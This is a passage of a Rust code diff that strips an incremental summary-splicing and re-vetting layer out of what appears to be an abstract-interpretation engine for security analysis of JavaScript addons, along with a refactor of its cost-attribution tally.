@@ -25,11 +25,6 @@ use crate::context::{CtxId, CtxTable};
 use crate::natives::{self, Environment, NativeBehavior, StrOp};
 use crate::rwsets::{Loc, RwSets, Strength};
 use crate::store::{slots, SiteKey, SiteTable, State};
-use crate::summary::{
-    self, Denormer, FuncPositions, IncrementalStats, NormCx, SummaryStore,
-};
-use jsir::hash::{manifest, FuncManifest};
-use minijson::Json;
 use jsdomains::{
     AValue, AllocSite, BoolDom, FuncIndex, Lattice, NativeId, NumDom, ObjKind, Pre, Sym,
 };
@@ -175,34 +170,13 @@ pub fn analyze_attributed(
     attr: &mut Attribution<'_>,
 ) -> AnalysisResult {
     let cow_before = jsdomains::cow_clone_count();
-    let mut m = build_machine(lowered, config, None);
-    if attr.is_enabled() {
-        m.attr = Some(AttrTally::new(lowered.program.funcs.len()));
-    }
-    trace.span_start("seed");
-    m.seed();
-    trace.span_end("seed");
-    trace.span_start("fixpoint");
-    let status = m.run();
-    trace.span_end("fixpoint");
-    finish(m, status, cow_before, trace, attr)
-}
-
-/// Constructs a machine over a lowered program; `incr` attaches the
-/// incremental-summary recording/splicing layer (`None` for the plain
-/// cold analysis, which then pays nothing for it).
-fn build_machine<'a>(
-    lowered: &'a Lowered,
-    config: &'a AnalysisConfig,
-    incr: Option<Box<IncrState<'a>>>,
-) -> Machine<'a> {
     let mut sites = SiteTable::new();
     let env = natives::setup(&mut sites);
     let worklist = match config.worklist {
         WorklistOrder::Rpo => Worklist::Rpo(BinaryHeap::new()),
         WorklistOrder::Fifo => Worklist::Fifo(VecDeque::new()),
     };
-    Machine {
+    let mut m = Machine {
         lowered,
         config,
         env,
@@ -226,44 +200,16 @@ fn build_machine<'a>(
         site_aliases: BTreeMap::new(),
         current: None,
         transitions: BTreeSet::new(),
-        incr,
-        attr: None,
-    }
-}
-
-/// Dense per-run attribution tally: `[steps, time_ns]` per
-/// `(function, clamped context depth)` bucket. Indexed arithmetic — no
-/// hashing — so the enabled fixpoint loop pays two clock reads and two
-/// adds per step, nothing else. Flushed once by [`finish`].
-struct AttrTally {
-    buckets: Vec<[u64; 2]>,
-}
-
-impl AttrTally {
-    fn new(funcs: usize) -> AttrTally {
-        AttrTally {
-            buckets: vec![[0, 0]; funcs * CTX_CLASSES],
-        }
-    }
-
-    #[inline]
-    fn add(&mut self, func: IrFuncId, ctx_class: usize, time_ns: u64) {
-        let b = &mut self.buckets[func.0 as usize * CTX_CLASSES + ctx_class];
-        b[0] += 1;
-        b[1] += time_ns;
-    }
-}
-
-/// Folds a finished machine into the public result (cycle detection,
-/// perf counters, trace flush).
-fn finish(
-    m: Machine<'_>,
-    status: RunStatus,
-    cow_before: u64,
-    trace: &mut Trace<'_>,
-    attr: &mut Attribution<'_>,
-) -> AnalysisResult {
-    let config = m.config;
+        attr: attr
+            .is_enabled()
+            .then(|| AttrTally::new(lowered.program.funcs.len())),
+    };
+    trace.span_start("seed");
+    m.seed();
+    trace.span_end("seed");
+    trace.span_start("fixpoint");
+    let status = m.run();
+    trace.span_end("fixpoint");
     let native_names = m.env.natives.iter().map(|n| n.name).collect();
     trace.span_start("cycles");
     let cyclic_stmts = cyclic_statements(&m.transitions);
@@ -312,6 +258,29 @@ fn finish(
             _ => None,
         },
         native_names,
+    }
+}
+
+/// Dense per-run attribution tally: `[steps, time_ns]` per
+/// `(function, clamped context depth)` bucket. Indexed arithmetic — no
+/// hashing — so the enabled fixpoint loop pays two clock reads and two
+/// adds per step, nothing else. Flushed once when the run ends.
+struct AttrTally {
+    buckets: Vec<[u64; 2]>,
+}
+
+impl AttrTally {
+    fn new(funcs: usize) -> AttrTally {
+        AttrTally {
+            buckets: vec![[0, 0]; funcs * CTX_CLASSES],
+        }
+    }
+
+    #[inline]
+    fn add(&mut self, func: IrFuncId, ctx_class: usize, time_ns: u64) {
+        let b = &mut self.buckets[func.0 as usize * CTX_CLASSES + ctx_class];
+        b[0] += 1;
+        b[1] += time_ns;
     }
 }
 
@@ -457,9 +426,6 @@ struct Machine<'a> {
     /// cycle (amplification) detection without the spurious cycles a
     /// context-insensitive supergraph has.
     transitions: BTreeSet<(CtxNode, CtxNode)>,
-    /// Incremental-summary layer (recording, store consultation and
-    /// splicing). `None` for plain cold runs, which skip every hook.
-    incr: Option<Box<IncrState<'a>>>,
     /// Cost-attribution tally (`None` unless the caller enabled
     /// attribution; the fixpoint loop then skips the clock reads).
     attr: Option<AttrTally>,
@@ -484,11 +450,6 @@ impl<'a> Machine<'a> {
         let needs_clock = self.config.deadline.is_some() || self.config.step_budget.is_some();
         let start = needs_clock.then(std::time::Instant::now);
         while let Some((stmt, ctx)) = self.worklist.pop() {
-            if self.incr.as_ref().is_some_and(|i| i.abandoned) {
-                // A splice invariant broke mid-run: the warm attempt is
-                // void and the caller re-runs cold, so stop spending.
-                return RunStatus::Completed;
-            }
             self.queued.remove(&(stmt, ctx));
             self.steps += 1;
             if self.steps > self.config.max_steps {
@@ -538,32 +499,6 @@ impl<'a> Machine<'a> {
         if let Some(cur) = self.current {
             self.transitions.insert((cur, key));
         }
-        if let Some(incr) = self.incr.as_deref_mut() {
-            let func = self.lowered.program.stmt(stmt).func;
-            if incr.frozen.contains(&(func, ctx)) {
-                // Only a spliced root's entry may receive state: caller
-                // arrivals join in (never enqueue) so the end-of-run
-                // check can compare the accumulated entry against the
-                // stored one. Any other push into frozen territory means
-                // the recorded subtree was not actually closed -- the
-                // warm run is void.
-                if incr.roots.contains_key(&(func, ctx))
-                    && stmt == self.lowered.program.func(func).entry
-                {
-                    match self.states.get_mut(&key) {
-                        Some(existing) => {
-                            existing.join_in_place(&state);
-                        }
-                        None => {
-                            self.states.insert(key, state);
-                        }
-                    }
-                } else {
-                    incr.abandoned = true;
-                }
-                return;
-            }
-        }
         let changed = match self.states.get_mut(&key) {
             Some(existing) => {
                 self.joins += 1;
@@ -580,14 +515,6 @@ impl<'a> Machine<'a> {
     }
 
     fn enqueue(&mut self, stmt: StmtId, ctx: CtxId) {
-        if let Some(incr) = self.incr.as_ref() {
-            let func = self.lowered.program.stmt(stmt).func;
-            // Frozen activations never re-step -- except a spliced root's
-            // exit, which replays its stored state to each new caller.
-            if incr.frozen.contains(&(func, ctx)) && !incr.roots.contains_key(&(func, ctx)) {
-                return;
-            }
-        }
         let key = (stmt, ctx);
         if self.states.contains_key(&key) && self.queued.insert(key) {
             self.worklist.push(key, &self.prio);
@@ -622,22 +549,9 @@ impl<'a> Machine<'a> {
             let aged = self.sites.intern(SiteKey::Aged(mru.0));
             st.heap.rename_site(mru, aged);
             self.site_aliases.insert(mru, aged);
-            if let Some(a) = self.attr_rec() {
-                a.site_aliases.insert(mru, aged);
-            }
         }
         st.alloc(mru, kind);
         mru
-    }
-
-    /// The per-activation output slice for the node currently being
-    /// stepped. `None` outside incremental runs, so every recording hook
-    /// is a single `Option` check on the cold path.
-    fn attr_rec(&mut self) -> Option<&mut AttrRecord> {
-        let incr = self.incr.as_deref_mut()?;
-        let (stmt, ctx) = self.current?;
-        let func = self.lowered.program.stmt(stmt).func;
-        Some(incr.attr.entry((func, ctx)).or_default())
     }
 
     /// Marks a statement as possibly throwing an implicit exception and,
@@ -646,25 +560,16 @@ impl<'a> Machine<'a> {
     /// exceptions is still analyzed.
     fn implicit_throw(&mut self, stmt_id: StmtId, ctx: CtxId, st: &State) {
         self.may_throw.insert(stmt_id);
-        if let Some(a) = self.attr_rec() {
-            a.may_throw.insert(stmt_id);
-        }
         if let Some(handler) = self.lowered.program.stmt(stmt_id).handler {
             self.push_state(handler, ctx, st.clone());
         }
     }
 
     fn record_read(&mut self, stmt: StmtId, loc: Loc, strength: Strength) {
-        if let Some(a) = self.attr_rec() {
-            a.rw.entry(stmt).or_default().reads.add(loc.clone(), strength);
-        }
         self.rw.entry(stmt).or_default().reads.add(loc, strength);
     }
 
     fn record_write(&mut self, stmt: StmtId, loc: Loc, strength: Strength) {
-        if let Some(a) = self.attr_rec() {
-            a.rw.entry(stmt).or_default().writes.add(loc.clone(), strength);
-        }
         self.rw.entry(stmt).or_default().writes.add(loc, strength);
     }
 
@@ -885,21 +790,6 @@ impl<'a> Machine<'a> {
     #[allow(clippy::too_many_lines)]
     fn step(&mut self, stmt_id: StmtId, ctx: CtxId) {
         self.reachable.insert(stmt_id);
-        if self.incr.is_some() {
-            let func = self.lowered.program.stmt(stmt_id).func;
-            let incr = self.incr.as_deref_mut().expect("checked above");
-            // A spliced root's exit replay is bookkeeping, not
-            // re-analysis; everything else counts toward
-            // `functions_reanalyzed`.
-            if !incr.roots.contains_key(&(func, ctx)) {
-                incr.touched.insert(func);
-            }
-            incr.attr
-                .entry((func, ctx))
-                .or_default()
-                .reachable
-                .insert(stmt_id);
-        }
         let st_in = self.states[&(stmt_id, ctx)].clone();
         // Copy out the `&'a Lowered` so borrowing the statement does not
         // freeze `self` (the old code cloned the whole statement instead).
@@ -1286,15 +1176,9 @@ impl<'a> Machine<'a> {
                 .entry(stmt_id)
                 .or_default()
                 .insert(id);
-            if let Some(a) = self.attr_rec() {
-                a.native_targets.entry(stmt_id).or_default().insert(id);
-            }
             let name = self.env.spec(id).name;
             if self.config.security.interesting_apis.contains(name) {
                 self.api_uses.insert((stmt_id, name.to_owned()));
-                if let Some(a) = self.attr_rec() {
-                    a.api_uses.insert((stmt_id, name.to_owned()));
-                }
             }
             let r = self.apply_native(
                 id,
@@ -1334,9 +1218,6 @@ impl<'a> Machine<'a> {
                 .entry(stmt_id)
                 .or_default()
                 .insert(fid);
-            if let Some(a) = self.attr_rec() {
-                a.call_targets.entry(stmt_id).or_default().insert(fid);
-            }
             self.do_addon_call(
                 stmt_id, ctx, func, st, fid, closure, this_v, arg_vs, dst.clone(), is_new,
             );
@@ -1441,9 +1322,6 @@ impl<'a> Machine<'a> {
             Loc::exact(fsite, slots::THIS),
             strength,
         );
-        if self.incr.is_some() {
-            self.incr_contact(caller_func, ctx, fid, new_ctx, &callee_st);
-        }
         self.push_state(callee.entry, new_ctx, callee_st);
 
         // Locate the CallResult node right after the call (absent for
@@ -1867,13 +1745,9 @@ impl<'a> Machine<'a> {
     fn record_sink(&mut self, stmt: StmtId, kind: SinkKind, domain: Pre) {
         let slot = self
             .sink_domains
-            .entry((stmt, kind.clone()))
+            .entry((stmt, kind))
             .or_insert(Pre::Bot);
         *slot = slot.join(&domain);
-        if let Some(a) = self.attr_rec() {
-            let slot = a.sink_domains.entry((stmt, kind)).or_insert(Pre::Bot);
-            *slot = slot.join(&domain);
-        }
     }
 }
 
@@ -2147,1070 +2021,5 @@ trait ValueExt {
 impl ValueExt for AValue {
     fn without_primitives(&self) -> AValue {
         AValue::objects(self.objs.iter().copied())
-    }
-}
-
-// ---------------------------------------------------------------------------
-// Incremental re-vetting: summary recording, splicing and extraction
-// ---------------------------------------------------------------------------
-
-/// A `(function, context)` pair: one abstract activation.
-type Activation = (IrFuncId, CtxId);
-
-/// Entries kept per summary document (per root function + config).
-const ENTRIES_PER_DOC: usize = 32;
-
-/// What the incremental layer does with the store.
-#[derive(PartialEq, Eq, Clone, Copy)]
-enum IncrMode {
-    /// Consult the store at each first contact and splice hits; record
-    /// and extract summaries for whatever still runs live.
-    Splice,
-    /// Record and extract only. The abandon-fallback cold run must not
-    /// consult the store it just failed against.
-    ExtractOnly,
-}
-
-/// The output slice one activation contributed to the global result maps.
-/// Everything the analysis reports is join-structured, so slices recorded
-/// per activation can be re-merged in any combination.
-#[derive(Default, Clone)]
-struct AttrRecord {
-    rw: BTreeMap<StmtId, RwSets>,
-    may_throw: BTreeSet<StmtId>,
-    call_targets: BTreeMap<StmtId, BTreeSet<IrFuncId>>,
-    native_targets: BTreeMap<StmtId, BTreeSet<NativeId>>,
-    sink_domains: BTreeMap<(StmtId, SinkKind), Pre>,
-    api_uses: BTreeSet<(StmtId, String)>,
-    site_aliases: BTreeMap<AllocSite, AllocSite>,
-    reachable: BTreeSet<StmtId>,
-}
-
-impl AttrRecord {
-    fn merge(&mut self, other: &AttrRecord) {
-        for (stmt, rw) in &other.rw {
-            let slot = self.rw.entry(*stmt).or_default();
-            slot.reads.merge(&rw.reads);
-            slot.writes.merge(&rw.writes);
-        }
-        self.may_throw.extend(other.may_throw.iter().copied());
-        for (s, t) in &other.call_targets {
-            self.call_targets
-                .entry(*s)
-                .or_default()
-                .extend(t.iter().copied());
-        }
-        for (s, t) in &other.native_targets {
-            self.native_targets
-                .entry(*s)
-                .or_default()
-                .extend(t.iter().copied());
-        }
-        for ((s, k), d) in &other.sink_domains {
-            let slot = self
-                .sink_domains
-                .entry((*s, k.clone()))
-                .or_insert(Pre::Bot);
-            *slot = slot.join(d);
-        }
-        self.api_uses.extend(other.api_uses.iter().cloned());
-        for (a, b) in &other.site_aliases {
-            self.site_aliases.insert(*a, *b);
-        }
-        self.reachable.extend(other.reachable.iter().copied());
-    }
-
-    /// Keeps only records anchored at statements satisfying `keep`.
-    /// Used at extraction to drop boundary records: a root's return-value
-    /// transfer reads and writes at its *caller's* call statement, which
-    /// is positionally unstable under caller edits. Those records
-    /// regenerate live when the spliced exit replays through the normal
-    /// `handle_exit` path.
-    fn retain_stmts(&mut self, keep: impl Fn(StmtId) -> bool) {
-        self.rw.retain(|s, _| keep(*s));
-        self.may_throw.retain(|s| keep(*s));
-        self.call_targets.retain(|s, _| keep(*s));
-        self.native_targets.retain(|s, _| keep(*s));
-        self.sink_domains.retain(|(s, _), _| keep(*s));
-        self.api_uses.retain(|(s, _)| keep(*s));
-        self.reachable.retain(|s| keep(*s));
-    }
-}
-
-/// A summary spliced into this run, pending the end-of-run entry check.
-struct SpliceRoot {
-    footprint: BTreeSet<AllocSite>,
-    stored_entry: State,
-    rec: AttrRecord,
-    transitions: Vec<(CtxNode, CtxNode)>,
-}
-
-/// Per-run state of the incremental layer.
-struct IncrState<'a> {
-    store: &'a dyn SummaryStore,
-    mode: IncrMode,
-    manifest: FuncManifest,
-    positions: FuncPositions,
-    /// Caller activation -> callee activation edges actually dispatched.
-    act_edges: BTreeSet<(Activation, Activation)>,
-    /// Output slices by recording activation.
-    attr: HashMap<Activation, AttrRecord>,
-    /// Activations suppressed because a spliced summary covers them.
-    frozen: HashSet<Activation>,
-    /// Spliced subtrees by root activation.
-    roots: HashMap<Activation, SpliceRoot>,
-    /// Activations whose first contact already consulted the store.
-    consulted: HashSet<Activation>,
-    hits: u64,
-    misses: u64,
-    abandoned: bool,
-    /// Functions whose statements the worklist actually stepped.
-    touched: HashSet<IrFuncId>,
-}
-
-impl<'a> IncrState<'a> {
-    fn new(store: &'a dyn SummaryStore, mode: IncrMode, lowered: &Lowered) -> Box<IncrState<'a>> {
-        Box::new(IncrState {
-            store,
-            mode,
-            manifest: manifest(lowered),
-            positions: summary::func_positions(lowered),
-            act_edges: BTreeSet::new(),
-            attr: HashMap::new(),
-            frozen: HashSet::new(),
-            roots: HashMap::new(),
-            consulted: HashSet::new(),
-            hits: 0,
-            misses: 0,
-            abandoned: false,
-            touched: HashSet::new(),
-        })
-    }
-
-    fn stats(&self) -> IncrementalStats {
-        IncrementalStats {
-            summary_hits: self.hits,
-            summary_misses: self.misses,
-            functions_reanalyzed: self.touched.len() as u64,
-            total_functions: self.manifest.len() as u64,
-            abandoned: 0,
-        }
-    }
-}
-
-impl<'a> Machine<'a> {
-    /// First-contact hook on every addon dispatch: records the activation
-    /// edge, and on the very first contact with an activation consults
-    /// the summary store for a splice.
-    fn incr_contact(
-        &mut self,
-        caller_func: IrFuncId,
-        ctx: CtxId,
-        fid: IrFuncId,
-        nctx: CtxId,
-        arrival: &State,
-    ) {
-        {
-            let Some(incr) = self.incr.as_deref_mut() else {
-                return;
-            };
-            incr.act_edges.insert(((caller_func, ctx), (fid, nctx)));
-            if incr.mode != IncrMode::Splice
-                || incr.frozen.contains(&(fid, nctx))
-                || !incr.consulted.insert((fid, nctx))
-            {
-                return;
-            }
-        }
-        // Take the layer out so denormalization can borrow its manifest
-        // and positions alongside `&mut self.sites` / `self.ctxs`.
-        let mut incr = self.incr.take().expect("present above");
-        let hit = self.try_splice(&mut incr, fid, nctx, arrival);
-        if hit {
-            incr.hits += 1;
-        } else {
-            incr.misses += 1;
-        }
-        self.incr = Some(incr);
-    }
-
-    /// Footprint roots of an activation: its frame, the global object and
-    /// every host object -- the only entry points a callee has into the
-    /// heap (everything else is reached by following properties from
-    /// them, including closure scope chains hanging off the frame).
-    fn reach_roots(&self, fid: IrFuncId, nctx: CtxId) -> Vec<AllocSite> {
-        let mut roots = Vec::with_capacity(32);
-        roots.push(self.env.global);
-        for i in 0..self.sites.len() {
-            let s = AllocSite(i as u32);
-            if matches!(self.sites.origin(s), SiteKey::Host(_)) {
-                roots.push(s);
-            }
-        }
-        if let Some(f) = self.sites.get(&SiteKey::Frame(fid, nctx)) {
-            roots.push(f);
-        }
-        roots
-    }
-
-    /// Attempts to splice a stored summary for the activation `(fid,
-    /// nctx)` whose first arrival state is `arrival`. Any failure at any
-    /// stage -- missing entry, stale refs, members already live, arrival
-    /// outside the stored footprint -- is a plain miss and the subtree
-    /// runs live.
-    fn try_splice(
-        &mut self,
-        incr: &mut IncrState<'a>,
-        fid: IrFuncId,
-        nctx: CtxId,
-        arrival: &State,
-    ) -> bool {
-        let own_hash = incr.manifest.hash_of(fid);
-        let key = summary::store_key(own_hash, self.config);
-        let Some(text) = incr.store.load(key) else {
-            return false;
-        };
-        let Some(doc) = summary::doc_parse(&text, own_hash, self.config) else {
-            return false;
-        };
-        let nctx_json = NormCx {
-            lowered: self.lowered,
-            manifest: &incr.manifest,
-            positions: &incr.positions,
-            sites: &self.sites,
-            ctxs: &self.ctxs,
-        }
-        .nctx(nctx);
-        let root_pos = incr.positions.pos_of(fid).to_owned();
-        let Some(entry) = summary::doc_find(&doc, &root_pos, &nctx_json) else {
-            return false;
-        };
-
-        // Invalidation rule: every function the subtree transitively
-        // analyzed must still exist at its recorded position with an
-        // unchanged content hash.
-        let Some(refs) = entry.get("refs").and_then(Json::as_array) else {
-            return false;
-        };
-        for r in refs {
-            let (Some(pos), Some(hex)) = (r[0].as_str(), r[1].as_str()) else {
-                return false;
-            };
-            let Some(f) = incr.positions.func_at(pos) else {
-                return false;
-            };
-            if summary::parse_hash_hex(hex) != Some(incr.manifest.hash_of(f)) {
-                return false;
-            }
-        }
-
-        let de = Denormer {
-            lowered: self.lowered,
-            manifest: &incr.manifest,
-            positions: &incr.positions,
-            k: self.config.context_depth,
-        };
-        // Member activations must resolve and must not already be live,
-        // frozen, or separately consulted in this run.
-        let Some(mrows) = entry.get("members").and_then(Json::as_array) else {
-            return false;
-        };
-        let mut members: Vec<Activation> = Vec::with_capacity(mrows.len());
-        for row in mrows {
-            let Some(pos) = row[0].as_str() else {
-                return false;
-            };
-            let Some(f) = incr.positions.func_at(pos) else {
-                return false;
-            };
-            let Some(c) = de.ctx(&row[1], &mut self.ctxs) else {
-                return false;
-            };
-            if incr.frozen.contains(&(f, c)) || incr.attr.contains_key(&(f, c)) {
-                return false;
-            }
-            if (f, c) != (fid, nctx) && incr.consulted.contains(&(f, c)) {
-                return false;
-            }
-            members.push((f, c));
-        }
-        if !members.contains(&(fid, nctx)) {
-            return false;
-        }
-
-        let Some(fj) = entry.get("footprint").and_then(Json::as_array) else {
-            return false;
-        };
-        let mut footprint = BTreeSet::new();
-        for row in fj {
-            let Some(s) = de.site(row, &mut self.sites, &mut self.ctxs) else {
-                return false;
-            };
-            footprint.insert(s);
-        }
-        let Some(stored_entry) = entry
-            .get("entry")
-            .and_then(|j| de.state(j, &mut self.sites, &mut self.ctxs))
-        else {
-            return false;
-        };
-        let exit_state = match entry.get("has_exit") {
-            Some(Json::Bool(true)) => {
-                match entry
-                    .get("exit")
-                    .and_then(|j| de.state(j, &mut self.sites, &mut self.ctxs))
-                {
-                    Some(s) => Some(s),
-                    None => return false,
-                }
-            }
-            Some(Json::Bool(false)) => None,
-            _ => return false,
-        };
-        let Some(rec) = denorm_attr(&de, entry.get("outputs"), &mut self.sites, &mut self.ctxs)
-        else {
-            return false;
-        };
-        let Some(transitions) = denorm_edges(&de, entry.get("edges"), &mut self.ctxs) else {
-            return false;
-        };
-
-        // The arrival state must sit below the stored entry within its
-        // footprint. The end-of-run obligation then requires the fully
-        // accumulated entry to land *exactly* on the stored one.
-        let roots = self.reach_roots(fid, nctx);
-        let reach = summary::reach_sites(arrival, roots);
-        if !reach.is_subset(&footprint) {
-            return false;
-        }
-        for s in &reach {
-            let (Some(a), Some(b)) = (arrival.object(*s), stored_entry.object(*s)) else {
-                return false;
-            };
-            if !summary::obj_leq(a, b) {
-                return false;
-            }
-        }
-
-        // Install: freeze the members and seed the stored exit state so
-        // the normal worklist pops the exit and returns through
-        // `handle_exit` natively.
-        for m in &members {
-            incr.frozen.insert(*m);
-        }
-        if let Some(es) = exit_state {
-            let exit = self.lowered.program.func(fid).exit;
-            match self.states.entry((exit, nctx)) {
-                std::collections::hash_map::Entry::Occupied(mut e) => {
-                    e.get_mut().join_in_place(&es);
-                }
-                std::collections::hash_map::Entry::Vacant(v) => {
-                    v.insert(es);
-                }
-            }
-        }
-        incr.roots.insert(
-            (fid, nctx),
-            SpliceRoot {
-                footprint,
-                stored_entry,
-                rec,
-                transitions,
-            },
-        );
-        true
-    }
-
-    /// End-of-run validation of every splice: the entry state the live
-    /// callers actually accumulated must land exactly on the stored one
-    /// across the stored footprint, and must not reach outside it. If an
-    /// edit changed what flows into the subtree, the stored exit no
-    /// longer applies and the whole warm run is discarded.
-    fn incr_obligations_ok(&mut self) -> bool {
-        let Some(incr) = self.incr.take() else {
-            return true;
-        };
-        let mut ok = true;
-        'roots: for ((fid, nctx), root) in &incr.roots {
-            let entry = self.lowered.program.func(*fid).entry;
-            let Some(final_st) = self.states.get(&(entry, *nctx)) else {
-                ok = false;
-                break;
-            };
-            let reach = summary::reach_sites(final_st, self.reach_roots(*fid, *nctx));
-            if !reach.is_subset(&root.footprint) {
-                ok = false;
-                break;
-            }
-            for s in &root.footprint {
-                if final_st.object(*s) != root.stored_entry.object(*s) {
-                    ok = false;
-                    break 'roots;
-                }
-            }
-        }
-        self.incr = Some(incr);
-        ok
-    }
-
-    /// Folds every validated splice's stored outputs into the global
-    /// result maps. Everything is a join, so this is idempotent against
-    /// anything the live boundary already re-recorded.
-    fn incr_merge_splices(&mut self) {
-        let Some(mut incr) = self.incr.take() else {
-            return;
-        };
-        for (_, root) in incr.roots.drain() {
-            let rec = root.rec;
-            for (stmt, rw) in &rec.rw {
-                let slot = self.rw.entry(*stmt).or_default();
-                slot.reads.merge(&rw.reads);
-                slot.writes.merge(&rw.writes);
-            }
-            self.may_throw.extend(rec.may_throw);
-            for (s, t) in rec.call_targets {
-                self.call_targets.entry(s).or_default().extend(t);
-            }
-            for (s, t) in rec.native_targets {
-                self.native_targets.entry(s).or_default().extend(t);
-            }
-            for ((s, k), d) in rec.sink_domains {
-                let slot = self.sink_domains.entry((s, k)).or_insert(Pre::Bot);
-                *slot = slot.join(&d);
-            }
-            self.api_uses.extend(rec.api_uses);
-            self.site_aliases.extend(rec.site_aliases);
-            self.reachable.extend(rec.reachable);
-            self.transitions.extend(root.transitions);
-        }
-        self.incr = Some(incr);
-    }
-
-    /// Extracts and saves a summary for every maximal closed activation
-    /// subtree that ran live this run (outermost-first, never descending
-    /// into a subtree once extracted), refreshing the store for whatever
-    /// an edit forced back through the worklist.
-    fn incr_extract_and_save(&mut self) {
-        let Some(incr) = self.incr.take() else {
-            return;
-        };
-        let mut children: HashMap<Activation, BTreeSet<Activation>> = HashMap::new();
-        let mut callers: HashMap<Activation, BTreeSet<Activation>> = HashMap::new();
-        for (a, b) in &incr.act_edges {
-            children.entry(*a).or_default().insert(*b);
-            callers.entry(*b).or_default().insert(*a);
-        }
-        let top = (self.lowered.program.top_level().id, CtxId::ROOT);
-        let mut picked: Vec<(Activation, Vec<Activation>)> = Vec::new();
-        let mut pending: VecDeque<Activation> =
-            children.get(&top).into_iter().flatten().copied().collect();
-        let mut visited: HashSet<Activation> = HashSet::new();
-        while let Some(act) = pending.pop_front() {
-            if !visited.insert(act) {
-                continue;
-            }
-            if let Some(members) = self.closed_subtree(&incr, &children, &callers, act) {
-                picked.push((act, members));
-            } else {
-                pending.extend(children.get(&act).into_iter().flatten().copied());
-            }
-        }
-
-        // Group entries into per-root-function documents so one store
-        // write covers all of a function's contexts.
-        let mut docs: HashMap<u64, Json> = HashMap::new();
-        for (root, members) in picked {
-            let Some(entry) = self.extract_entry(&incr, root, &members) else {
-                continue;
-            };
-            let own_hash = incr.manifest.hash_of(root.0);
-            let key = summary::store_key(own_hash, self.config);
-            let doc = docs.entry(key).or_insert_with(|| {
-                incr.store
-                    .load(key)
-                    .and_then(|t| summary::doc_parse(&t, own_hash, self.config))
-                    .unwrap_or_else(|| summary::doc_new(own_hash, self.config))
-            });
-            summary::doc_upsert(doc, entry, ENTRIES_PER_DOC);
-        }
-        for (key, doc) in docs {
-            incr.store.save(key, &doc.to_string_compact());
-        }
-        self.incr = Some(incr);
-    }
-
-    /// The membership of a valid extraction candidate rooted at `act`, or
-    /// `None` if the subtree is not extractable: it must have run fully
-    /// live, be closed under calls (nothing outside calls a non-root
-    /// member, the root is not recursed into), and have a recorded entry
-    /// state.
-    fn closed_subtree(
-        &self,
-        incr: &IncrState<'a>,
-        children: &HashMap<Activation, BTreeSet<Activation>>,
-        callers: &HashMap<Activation, BTreeSet<Activation>>,
-        act: Activation,
-    ) -> Option<Vec<Activation>> {
-        if act.0 == self.lowered.program.top_level().id {
-            return None;
-        }
-        let mut members: BTreeSet<Activation> = BTreeSet::new();
-        let mut work = vec![act];
-        members.insert(act);
-        while let Some(a) = work.pop() {
-            for c in children.get(&a).into_iter().flatten() {
-                if members.insert(*c) {
-                    work.push(*c);
-                }
-            }
-        }
-        for m in &members {
-            if incr.frozen.contains(m) {
-                return None;
-            }
-            if *m == act {
-                // Recursion back into the root would make its entry state
-                // depend on the subtree itself.
-                if callers
-                    .get(m)
-                    .is_some_and(|cs| cs.iter().any(|c| members.contains(c)))
-                {
-                    return None;
-                }
-            } else if callers
-                .get(m)
-                .is_some_and(|cs| cs.iter().any(|c| !members.contains(c)))
-            {
-                return None;
-            }
-        }
-        let entry = self.lowered.program.func(act.0).entry;
-        if !self.states.contains_key(&(entry, act.1)) {
-            return None;
-        }
-        Some(members.into_iter().collect())
-    }
-
-    /// Builds the normalized summary entry for one extracted subtree.
-    fn extract_entry(
-        &self,
-        incr: &IncrState<'a>,
-        root: Activation,
-        members: &[Activation],
-    ) -> Option<Json> {
-        let (fid, nctx) = root;
-        let norm = NormCx {
-            lowered: self.lowered,
-            manifest: &incr.manifest,
-            positions: &incr.positions,
-            sites: &self.sites,
-            ctxs: &self.ctxs,
-        };
-        let func = self.lowered.program.func(fid);
-        let entry_st = self.states.get(&(func.entry, nctx))?;
-        let footprint = summary::reach_sites(entry_st, self.reach_roots(fid, nctx));
-
-        let member_funcs: BTreeSet<IrFuncId> = members.iter().map(|(f, _)| *f).collect();
-        let in_members = |s: StmtId| member_funcs.contains(&self.lowered.program.stmt(s).func);
-
-        let mut rec = AttrRecord::default();
-        for m in members {
-            if let Some(a) = incr.attr.get(m) {
-                rec.merge(a);
-            }
-        }
-        rec.retain_stmts(in_members);
-
-        let member_set: BTreeSet<Activation> = members.iter().copied().collect();
-        let act_of = |n: CtxNode| (self.lowered.program.stmt(n.0).func, n.1);
-        let edges: Vec<&(CtxNode, CtxNode)> = self
-            .transitions
-            .iter()
-            .filter(|(a, b)| member_set.contains(&act_of(*a)) && member_set.contains(&act_of(*b)))
-            .collect();
-
-        let mut e = Json::obj();
-        e.set("root", Json::from(incr.positions.pos_of(fid)));
-        e.set("nctx", norm.nctx(nctx));
-        e.set(
-            "refs",
-            Json::Arr(
-                member_funcs
-                    .iter()
-                    .map(|f| {
-                        Json::Arr(vec![
-                            Json::from(incr.positions.pos_of(*f)),
-                            Json::from(summary::hash_hex(incr.manifest.hash_of(*f))),
-                        ])
-                    })
-                    .collect(),
-            ),
-        );
-        e.set(
-            "members",
-            Json::Arr(
-                members
-                    .iter()
-                    .map(|(f, c)| {
-                        Json::Arr(vec![Json::from(incr.positions.pos_of(*f)), norm.nctx(*c)])
-                    })
-                    .collect(),
-            ),
-        );
-        let mut fp_rows: Vec<(String, Json)> = footprint
-            .iter()
-            .map(|s| {
-                let j = norm.nsite(*s);
-                (j.to_string_compact(), j)
-            })
-            .collect();
-        fp_rows.sort_by(|a, b| a.0.cmp(&b.0));
-        e.set(
-            "footprint",
-            Json::Arr(fp_rows.into_iter().map(|(_, j)| j).collect()),
-        );
-        e.set(
-            "entry",
-            norm.nheap(
-                footprint
-                    .iter()
-                    .filter_map(|s| entry_st.object(*s).map(|o| (*s, o.clone()))),
-            ),
-        );
-        match self.states.get(&(func.exit, nctx)) {
-            Some(exit_st) => {
-                e.set("has_exit", Json::Bool(true));
-                e.set("exit", norm.nheap(exit_st.heap.iter().map(|(s, o)| (*s, o.clone()))));
-            }
-            None => {
-                e.set("has_exit", Json::Bool(false));
-                e.set("exit", Json::Arr(Vec::new()));
-            }
-        }
-        e.set("outputs", norm_attr(&norm, &rec));
-        e.set(
-            "edges",
-            Json::Arr(
-                edges
-                    .into_iter()
-                    .map(|(a, b)| {
-                        Json::Arr(vec![
-                            norm.nstmt(a.0),
-                            norm.nctx(a.1),
-                            norm.nstmt(b.0),
-                            norm.nctx(b.1),
-                        ])
-                    })
-                    .collect(),
-            ),
-        );
-        Some(e)
-    }
-}
-
-/// Serializes an [`AttrRecord`] into the summary `outputs` object.
-fn norm_attr(norm: &NormCx<'_>, rec: &AttrRecord) -> Json {
-    let naccess = |set: &crate::rwsets::AccessSet| -> Json {
